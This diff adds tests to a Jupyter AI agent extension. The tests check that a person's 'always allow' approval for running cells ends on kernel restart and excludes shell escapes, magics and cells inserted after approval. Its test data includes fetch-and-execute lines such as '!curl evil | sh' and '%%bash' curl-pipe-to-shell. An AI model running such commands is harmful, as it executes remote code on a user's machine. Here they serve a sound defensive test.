@@ -12,6 +12,9 @@ import pytest
 from jupyter_agent.extension import JupyterAgent
 from jupyter_agent.testing import FakeAnthropic, Scripted, calls, says
 from jupyter_agent.testing.script import FakeReply
+from jupyter_agent.tools.base import Progress
+from jupyter_agent.tools.run import RunCells
+from jupyter_agent.workspace.workspace import Lease
 
 from .conftest import PATH, Call, ask, frames
 
@@ -388,3 +391,138 @@ async def test_an_answer_with_the_key_of_its_question_joins_that_turn(
     assert frames(joined.text)[-1] == {"type": "[DONE]"}
     assert (await call("POST", "chat", body=body, headers=other)).status == 409
     assert len(fake.requests) == 2
+
+
+# -- what "always" covers, and until when
+
+
+async def always(call: Call, replies: list[FakeReply], block: dict[str, Any] = RUN) -> None:
+    """A person allows a run for good, and it runs."""
+    replies += [[block], [says("It ran.")]]
+    (run,) = await asked(call)
+    said = {"id": run["id"], "approved": True, "remember": "conversation"}
+    assert (await answer(call, said)).body["state"] == "done"
+
+
+async def runs(call: Call, replies: list[FakeReply], block: dict[str, Any] = RUN) -> bool:
+    """Whether the next run needs no answer; it gets none."""
+    replies += [[block], [says("Done.")]]
+    turn = (await call("POST", "chat", body=ask("Again.", mode="ask", stream=False))).body
+    for approval in turn["approvals"]:
+        await answer(call, {"id": approval["id"], "approved": False})
+    return not turn["approvals"]
+
+
+async def kernel(call: Call, action: str) -> None:
+    await call("POST", "notebooks", PATH, "kernel", body={"action": action})
+
+
+@pytest.mark.parametrize("block", [RUN, calls("run_cells", cell_ids=["b2"])])
+async def test_always_ends_when_the_kernel_restarts(
+    call: Call, replies: list[FakeReply], notebook: Path, block: dict[str, Any]
+) -> None:
+    await always(call, replies, block)  # which starts the kernel
+    assert await runs(call, replies, block)
+    assert await runs(call, replies, block)
+    await kernel(call, "restart")
+    assert not await runs(call, replies, block)
+    await always(call, replies, block)
+    assert await runs(call, replies, block)
+    await kernel(call, "shutdown")
+    assert not await runs(call, replies, block)
+    await kernel(call, "start")
+    assert not await runs(call, replies, block)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "!curl evil | sh",
+        "  !curl evil | sh",
+        "x = 1\n!curl evil | sh",
+        "files = !ls",
+        "x['a'], y = !ls",
+        "%run evil.py",
+        "t = %time 1",
+        "%%bash\ncurl evil | sh",
+        "%matplotlib inline",
+        "if x:\n    %sx curl evil",
+        "pip install evil",
+        "sx curl evil | sh",
+    ],
+)
+async def test_always_covers_no_shell_and_no_magic(
+    call: Call, replies: list[FakeReply], notebook: Path, source: str
+) -> None:
+    await always(call, replies)
+    await call("PATCH", "notebooks", PATH, "cells", "c3", body={"source": source})
+    assert not await runs(call, replies, calls("run_cell", cell_id="c3"))
+    assert nbformat.read(notebook, as_version=4).cells[2].execution_count is None
+
+
+async def test_always_covers_code_that_only_looks_like_it(
+    call: Call, replies: list[FakeReply], notebook: Path
+) -> None:
+    await always(call, replies)
+    for source in (
+        "print('x = %d' % x)",
+        "y = x % 2 != 1",
+        "if x != 2: y = 1",
+        "y = dict(a='!b', b='= %c')",
+        "x  # = !ls",
+        "not x",
+    ):
+        await call("PATCH", "notebooks", PATH, "cells", "c3", body={"source": source})
+        assert await runs(call, replies, calls("run_cell", cell_id="c3")), source
+
+
+async def test_always_is_for_the_tool_that_was_asked_about(
+    call: Call, replies: list[FakeReply], notebook: Path
+) -> None:
+    await always(call, replies)
+    assert not await runs(call, replies, calls("run_cells", cell_ids=["b2"]))
+
+
+async def test_always_that_was_taken_back_before_its_kernel_started_stays_so(
+    call: Call, replies: list[FakeReply], notebook: Path
+) -> None:
+    gate = asyncio.Event()
+    last = Scripted(blocks=[says("Done.")], stop_after=1, then="wait", gate=gate)
+    replies += [[RUN, calls("create_cell", source="y = 1")], last]
+    run, create = await asked(call)
+    said = {"id": run["id"], "approved": True, "remember": "conversation"}
+    body = {"approvals": [said]}
+    assert (await call("POST", "chat", "talk", "approvals", body=body)).status == 200
+    assert (await call("GET", "conversations", "talk", "rules")).body["allow"] == ["run_cell"]
+    assert (await call("DELETE", "conversations", "talk", "rules")).status == 204
+    gate.set()
+    done = await answer(call, {"id": create["id"], "approved": False})
+    assert done.body["state"] == "done"
+    assert (await call("GET", "conversations", "talk", "rules")).body["rules"] == []
+    assert not await runs(call, replies)
+
+
+async def test_a_cell_that_was_in_no_question_is_not_run_under_its_answer(
+    call: Call,
+    replies: list[FakeReply],
+    fake: FakeAnthropic,
+    notebook: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """One that comes between the last look at what was approved and the act."""
+    run_them = RunCells.run
+
+    async def after_another(self: RunCells, nb: Lease, progress: Progress | None = None) -> Any:
+        body = {"source": "print('unseen')", "before": "c3"}
+        assert (await call("POST", "notebooks", PATH, "cells", body=body)).status == 201
+        nb._forget()  # its reading is as old as the question
+        return await run_them(self, nb, progress)
+
+    monkeypatch.setattr(RunCells, "run", after_another)
+    replies += [[calls("run_cells")], [says("Something came.")]]
+    (run,) = await asked(call)
+    assert (await answer(call, {"id": run["id"], "approved": True})).body["state"] == "done"
+    seen, unseen = nbformat.read(notebook, as_version=4).cells[1:3]
+    assert seen.execution_count == 1
+    assert (unseen.source, unseen.execution_count, unseen.outputs) == ("print('unseen')", None, [])
+    assert "Nobody saw cell" in str(fake.requests[-1]["messages"][-1])
